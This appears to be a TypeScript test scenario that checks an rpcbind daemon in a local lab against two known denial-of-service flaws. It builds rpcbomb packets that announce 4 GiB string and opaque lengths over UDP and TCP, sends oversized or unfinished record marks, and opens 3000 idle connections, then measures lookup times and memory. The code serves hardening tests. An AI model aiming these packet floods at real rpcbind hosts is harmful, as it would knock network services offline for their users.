// Runs inside a lab (see rpcbind-hardening.test.ts): oncrpc rpcbind under rpcbomb-style packets
// (CVE-2017-8779: string and opaque lengths of up to 4 GiB announced in small UDP datagrams and TCP
// records) and 3000 idle TCP connections (CVE-2021-46828), with lookups timed after each.
import { createSocket } from 'node:dgram';
import { connect, type Socket } from 'node:net';
import { readFileSync } from 'node:fs';
import { RpcClient } from '../../src/client/rpc-client.js';
import type { XdrReader } from '../../src/xdr/reader.js';
import { opaque, recordOf, u32 } from '../_helpers/raw-rpc.js';
import { exchange, rpcbArgs, rpcbCall, sleep, startDaemon, type Kind } from '../_helpers/rpcbind-lab.js';
import type { Scenario } from '../_helpers/rpcbind-driver.js';

const P = 0x30000001;

export interface Lookup {
  via: string;
  ok: boolean;
  ms: number;
  answer: string;
}

export interface HardeningResult {
  rssKiB: { start: number; afterBombs: number; afterConnections: number };
  bombs: number;
  afterBombs: Lookup[];
  connections: { opened: number; closedByDaemon: number };
  afterConnections: Lookup[];
  alive: boolean;
  log: string;
}

function rssKiB(pid: number): number {
  return Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1] ?? NaN);
}

/** v4 GETADDR of P over each transport, each on a new client, timed. */
async function lookups(): Promise<Lookup[]> {
  const out: Lookup[] = [];
  for (const [via, where] of [
    ['tcp', { transport: 'tcp', host: '127.0.0.1', port: 111 }],
    ['udp', { transport: 'udp', host: '127.0.0.1', port: 111 }],
    ['tcp6', { transport: 'tcp', host: '::1', port: 111 }],
    ['unix', { transport: 'unix', path: '/run/rpcbind.sock' }],
  ] as const) {
    const client = new RpcClient(where, { timeoutMs: 5000, connectTimeoutMs: 5000 });
    const t0 = performance.now();
    try {
      const answer = await client.callRaw(100000, 4, 3, (w) => {
        w.writeUint(P);
        w.writeUint(1);
        w.writeString('tcp');
        w.writeString('');
        w.writeString('');
      }, (r: XdrReader) => r.readString());
      out.push({ via, ok: true, ms: Math.round(performance.now() - t0), answer });
    } catch (e) {
      out.push({ via, ok: false, ms: Math.round(performance.now() - t0), answer: String(e) });
    } finally {
      client.destroy();
    }
  }
  return out;
}

const scenario: Scenario = async (kind) => {
  const d = await startDaemon(kind as Kind, { warm: false });
  await exchange({ transport: 'unix' }, rpcbCall(1, 3, 1, rpcbArgs(P, 1, 'tcp', '0.0.0.0.8.1')));
  await exchange({ transport: 'unix' }, rpcbCall(2, 3, 1, rpcbArgs(P, 1, 'udp', '0.0.0.0.8.1')));
  await exchange({ transport: 'unix' }, rpcbCall(3, 3, 1, rpcbArgs(P, 1, 'local', '/run/p.sock')));
  const start = rssKiB(d.proc.pid);

  // rpcbomb: every procedure that takes a string or an opaque, each announcing 4 GiB - 16 bytes (and
  // 2 GiB - 1) in a datagram of a few hundred bytes; over UDP and in TCP records (one connection each).
  const huge = [0xfffffff0, 0x7fffffff, 9001];
  const bodies: [number, number, (n: number) => Buffer][] = [];
  for (const vers of [3, 4]) {
    for (const proc of [1, 2, 3, 11, 9]) {
      if (vers === 3 && (proc === 11 || proc === 9)) continue;
      bodies.push([vers, proc, (n) => Buffer.concat([u32(P), u32(1), u32(n), Buffer.alloc(200, 0x41)])]); // r_netid
      bodies.push([vers, proc, (n) => Buffer.concat([u32(P), u32(1), opaque(Buffer.from('tcp')), u32(n), Buffer.alloc(200, 0x41)])]); // r_addr
    }
    bodies.push([vers, 7, (n) => Buffer.concat([u32(n), Buffer.alloc(200, 0x41)])]); // UADDR2TADDR
    bodies.push([vers, 8, (n) => Buffer.concat([u32(n), u32(n), Buffer.alloc(200, 0x41)])]); // TADDR2UADDR netbuf
    bodies.push([vers, vers === 4 ? 10 : 5, (n) => Buffer.concat([u32(P), u32(1), u32(0), u32(n), Buffer.alloc(200, 0x41)])]); // remote call args
  }
  bodies.push([2, 5, (n) => Buffer.concat([u32(P), u32(1), u32(0), u32(n), Buffer.alloc(200, 0x41)])]); // v2 CALLIT args
  const udp = createSocket('udp4');
  let bombs = 0;
  for (let round = 0; round < 20; round++) {
    for (const [vers, proc, body] of bodies) {
      for (const n of huge) {
        udp.send(rpcbCall(0x6b000000 + bombs, vers, proc, body(n)), 111, '127.0.0.1');
        bombs++;
      }
    }
    await sleep(5); // bounded load: about 1400 datagrams in 20 bursts
  }
  udp.close();
  for (const [vers, proc, body] of bodies) {
    for (const n of huge) {
      await exchange({ transport: 'tcp' }, rpcbCall(0x6c000000 + bombs, vers, proc, body(n)), { quietMs: 100 });
      bombs++;
    }
  }
  // A record mark announcing 2 GiB, and a record of 8 KiB left unfinished on a connection held open.
  await exchange({ transport: 'tcp' }, Buffer.alloc(0), { stream: Buffer.concat([u32(0xffffffff), Buffer.alloc(64)]), quietMs: 100 });
  const held = connect({ host: '127.0.0.1', port: 111 });
  held.on('error', () => {});
  held.write(Buffer.concat([u32(0x80000000 | 9000), Buffer.alloc(8000)]));
  await sleep(200);
  const afterBombs = await lookups();
  const rssBombs = rssKiB(d.proc.pid);

  // 3000 idle TCP connections (IPv4 and IPv6), opened 100 at a time; some with half a record sent.
  const socks: Socket[] = [];
  let closedByDaemon = 0;
  for (let i = 0; i < 3000; i += 100) {
    await Promise.all(
      Array.from({ length: 100 }, (_, j) =>
        new Promise<void>((resolve) => {
          const s = connect({ host: (i + j) % 3 === 0 ? '::1' : '127.0.0.1', port: 111 });
          socks.push(s);
          s.on('connect', () => {
            if ((i + j) % 10 === 0) s.write(recordOf(rpcbCall(1, 3, 0)).subarray(0, 20));
            resolve();
          });
          s.on('error', () => resolve());
          s.on('close', () => closedByDaemon++);
        }),
      ),
    );
  }
  await sleep(300);
  const afterConnections = await lookups();
  const rssConns = rssKiB(d.proc.pid);
  const alive = d.proc.child.exitCode === null && d.proc.child.signalCode === null;
  for (const s of socks) s.destroy();
  held.destroy();
  const opened = socks.length;
  const closed = closedByDaemon;
  await d.stop('SIGKILL');
  return {
    rssKiB: { start, afterBombs: rssBombs, afterConnections: rssConns },
    bombs,
    afterBombs,
    connections: { opened, closedByDaemon: closed },
    afterConnections,
    alive,
    log: d.proc.stderr.slice(0, 4000),
  } satisfies HardeningResult;
};
export default scenario;
